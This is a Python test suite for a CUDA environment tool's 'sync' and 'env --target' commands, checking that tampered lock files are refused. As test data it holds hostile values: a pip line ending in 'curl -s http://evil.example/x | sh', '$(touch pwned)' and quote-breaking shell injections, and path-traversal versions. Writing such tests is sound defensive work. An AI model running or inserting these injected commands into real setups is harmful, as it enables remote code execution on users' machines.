"""`cudaenv sync` installs only what both .cudaenv.lock and the mirror vouch for. A lock comes
with a cloned repository: every value in it passes its grammar when it is read (a `..` version,
a `%2e%2e` path, an empty archive: exit 6), and the archives it lists must be exactly those the
mirror's manifest of the locked release names, field for field (exit 6 otherwise, frozen or not,
with nothing installed and nothing fetched outside the mirror's redist tree). Its pip line is
never printed as it stands: sync rebuilds it from the checked arguments, each shell-quoted.
`env --target` on a lock it cannot read says so, naming the lock."""

import hashlib
import json
from pathlib import Path

import lock_edit
from harness import case, check, clean_env, expect_error, finish, mirror_server, run_in
from synthetic_mirror import PLATFORM, cudnn_release, toolkit_release

PROJECT = """cuda = "12.4"
cudnn = "9.1"
[targets.a100]
driver = "550.54.15"
arch = ["8.0"]
"""


def setup(tmp):
    toolkit_release(tmp / "mirror", "12.4.1", "12.4.131")
    toolkit_release(tmp / "mirror", "12.9.1", "12.9.86")  # a release the lock could claim instead
    cudnn_release(tmp / "mirror", "9.1.0", "9.1.0.70")
    project = tmp / "repo"
    project.mkdir()
    (project / ".cudaenv").write_text(PROJECT)
    (tmp / "sysroot").mkdir()
    return project


def env_for(tmp, url, root):
    return clean_env(tmp, CUDAENV_ROOT=tmp / root, CUDAENV_SYSROOT=tmp / "sysroot", CUDAENV_MIRROR=url,
                     CUDAENV_HTTP_BACKOFF_MS=20, CUDAENV_HTTP_ATTEMPTS=2)


def installed(tmp, root):
    """Every entry below the node's toolkits/ and cudnn/ (hidden ones too), and whatever a lock's
    path could have put beside the store."""
    found = []
    for kind in ("toolkits", "cudnn"):
        directory = tmp / root / kind
        if directory.exists():
            found += [f"{kind}/{p.name}" for p in directory.iterdir()]
    return found + [p.name for p in tmp.iterdir() if p.name in ("x", "escaped")]


def component(lock, name, product="toolkit"):
    return next(c for c in lock[product]["components"] if c["name"] == name)


def requested_paths(faults):
    """The paths the mirror was asked for, as it decoded them (%2e%2e reads as ..)."""
    log = Path(str(faults) + ".log")
    return [line.split(" ")[1] for line in log.read_text().splitlines()] if log.exists() else []


# Each: (what, change to the lock dict, change to the mirror or None, needle in the error).
def wrong_release(lock, tmp):
    lock["toolkit"]["version"] = "12.9.1"  # 12.4.1's archives filed as CUDA 12.9.1


def cudart_as_nvcc(lock, tmp):
    nvcc, cudart = component(lock, "cuda_nvcc"), component(lock, "cuda_cudart")
    nvcc.update({k: cudart[k] for k in ("relative_path", "sha256", "size")})


def wrong_component_version(lock, tmp):
    component(lock, "cuda_nvcc")["version"] = "12.4.999"


def percent_dots(lock, tmp):
    nvcc = component(lock, "cuda_nvcc")
    nvcc["relative_path"] = "cuda_nvcc/%2e%2e/" + nvcc["relative_path"]


def other_sha256(lock, tmp):
    """The lock pins the archive the mirror serves, but the mirror's manifest vouches for other
    bytes: the lock alone is not enough."""
    manifest_path = tmp / "mirror" / "cuda" / "redist" / "redistrib_12.4.1.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["cuda_nvcc"][PLATFORM]["sha256"] = hashlib.sha256(b"other bytes").hexdigest()
    manifest_path.write_text(json.dumps(manifest))


def cudnn_other_sha256(lock, tmp):
    component(lock, "cudnn", "cudnn")["sha256"] = "0" * 64


def size_zero(lock, tmp):
    component(lock, "cuda_cccl")["size"] = 0


def no_archives(lock, tmp):
    lock["toolkit"]["components"] = []


DISAGREEMENTS = [
    ("a lock filing 12.4.1's archives as CUDA 12.9.1", wrong_release, "CUDA 12.9.1"),
    ("cudart's archive locked as nvcc", cudart_as_nvcc, "toolkit.components.cuda_nvcc.relative_path"),
    ("a component version the manifest does not give", wrong_component_version,
     "toolkit.components.cuda_nvcc.version"),
    ("a relative path with %2e%2e", percent_dots, "relative_path"),
    ("a sha256 the mirror's manifest does not vouch for", other_sha256, "toolkit.components.cuda_nvcc.sha256"),
    ("a cuDNN sha256 the manifest does not give", cudnn_other_sha256, "cudnn.components.cudnn.sha256"),
    ("an archive of size 0", size_zero, "size"),
    ("a toolkit of no archives", no_archives, "lists no archive of CUDA 12.4.1"),
]


@case
def sync_refuses_a_lock_whose_toolkit_version_climbs_out_of_the_store(tmp):
    project = setup(tmp)
    with mirror_server(tmp / "mirror") as (url, _):
        run_in(["lock"], env_for(tmp, url, "dev"), project, expect=0)
        path = project / ".cudaenv.lock"
        lock = lock_edit.load(path)
        lock["toolkit"]["version"] = "../../x"
        lock_edit.save(path, lock)
        for frozen in ([], ["--frozen"]):
            proc = run_in(["sync", *frozen], env_for(tmp, url, "node"), project)
            expect_error(proc, 6, ".cudaenv.lock:", "toolkit.version", '"../../x" is not a release version')
            check("corrupt or hostile" in proc.stderr, proc.stderr)
            check(installed(tmp, "node") == [], f"sync {frozen}: nothing installed: {installed(tmp, 'node')}")
            check(not (tmp / "x").exists(), f"sync {frozen}: nothing outside the store")


@case
def sync_refuses_every_way_a_lock_can_disagree_with_the_mirror_frozen_or_not(tmp):
    project = setup(tmp)
    manifest = tmp / "mirror" / "cuda" / "redist" / "redistrib_12.4.1.json"
    original_manifest = manifest.read_text()
    with mirror_server(tmp / "mirror") as (url, log):
        run_in(["lock"], env_for(tmp, url, "dev"), project, expect=0)
        path = project / ".cudaenv.lock"
        locked = path.read_text()
        for what, change, needle in DISAGREEMENTS:
            for frozen in ([], ["--frozen"]):
                lock = lock_edit.load(path)
                change(lock, tmp)
                lock_edit.save(path, lock)
                written = path.read_text()
                root = f"node-{change.__name__}-{len(frozen)}"
                proc = run_in(["sync", *frozen], env_for(tmp, url, root), project)
                label = f"{what} (sync {' '.join(frozen)})"
                check(proc.returncode == 6, f"{label}: exit {proc.returncode}, expected 6: {proc.stderr}")
                check(needle in proc.stderr, f"{label}: {needle!r} named: {proc.stderr}")
                check(proc.stderr.count("cudaenv: error:") == 1, f"{label}: one error line: {proc.stderr}")
                check("nothing was installed" in proc.stderr or "corrupt or hostile" in proc.stderr,
                      f"{label}: says nothing was installed: {proc.stderr}")
                check(installed(tmp, root) == [], f"{label}: nothing installed: {installed(tmp, root)}")
                check(path.read_text() == written, f"{label}: the lock is left as it is")
                manifest.write_text(original_manifest)
                path.write_text(locked)
        requests = requested_paths(log)
        check(requests and not any(".." in p for p in requests),
              f"no request climbed out of the redist tree: {[p for p in requests if '..' in p]}")
        # The untouched lock still installs: the refusals above are the changes, not the setup.
        proc = run_in(["sync", "--frozen"], env_for(tmp, url, "node-good"), project, expect=0)
        check("installed CUDA 12.4.1" in proc.stdout, proc.stdout)


@case
def sync_never_prints_a_locks_pip_line_as_it_stands(tmp):
    project = setup(tmp)
    with mirror_server(tmp / "mirror") as (url, _):
        run_in(["lock"], env_for(tmp, url, "dev"), project, expect=0)
        path = project / ".cudaenv.lock"
        lock = lock_edit.load(path)
        lock["frameworks"] = {"jax": {"version": "0.5.0", "index_url": "https://pypi.org/simple",
                                      "pip": 'pip install -U "jax[cuda12]==0.5.0"'}}
        lock_edit.save(path, lock)
        proc = run_in(["sync"], env_for(tmp, url, "node"), project, expect=0)
        check("jax 0.5.0 (install it in your Python environment): pip install -U 'jax[cuda12]==0.5.0'\n"
              in proc.stdout, f"rebuilt from the checked words, each shell-quoted: {proc.stdout}")
        hostile = "pip install jax==0.5.0; curl -s http://evil.example/x | sh"
        for line in (hostile, 'pip install -U "jax[cuda12]==0.5.0" "$(touch pwned)"',
                     "pip install jax==0.5.0 --index-url https://evil.example/simple"):
            lock["frameworks"]["jax"]["pip"] = line
            lock_edit.save(path, lock)
            proc = run_in(["sync"], env_for(tmp, url, "node2"), project)
            expect_error(proc, 6, ".cudaenv.lock:", "frameworks.jax.pip")
            check("curl" not in proc.stdout and "touch" not in proc.stdout and "evil" not in proc.stdout,
                  f"the line is never offered as a command: {proc.stdout}")
            check(installed(tmp, "node2") == [], "nothing installed from such a lock")


@case
def env_target_names_a_lock_it_cannot_read(tmp):
    project = setup(tmp)
    env = env_for(tmp, "http://127.0.0.1:9", "node")
    path = project / ".cudaenv.lock"
    # No lock: the declaration alone (documented), exit 0.
    proc = run_in(["env", "--target", "a100"], env, project, expect=0)
    check("TORCH_CUDA_ARCH_LIST" in proc.stdout, proc.stdout)
    path.write_text("lock_version = 1\n[database\nnot toml at all\n")
    proc = run_in(["env", "--target", "a100"], env, project)
    expect_error(proc, 1, "--target:", str(path))
    check(proc.stdout == "", f"no settings guessed: {proc.stdout!r}")
    path.unlink()
    path.mkdir()  # unreadable as a file, whoever runs the test
    proc = run_in(["env", "--target", "a100"], env, project)
    expect_error(proc, 1, "--target:", str(path), "not a regular file")
    path.rmdir()
    with mirror_server(tmp / "mirror") as (url, _):
        run_in(["lock"], env_for(tmp, url, "dev"), project, expect=0)
    lock = lock_edit.load(path)
    lock["targets"]["a100"]["TORCH_CUDA_ARCH_LIST"] = '8.0"; touch pwned; "'
    lock_edit.save(path, lock)
    proc = run_in(["env", "--target", "a100"], env, project)
    expect_error(proc, 6, "--target:", str(path), "targets.a100.TORCH_CUDA_ARCH_LIST")
    check("touch" not in proc.stdout, f"nothing of the value printed as shell code: {proc.stdout!r}")


finish()
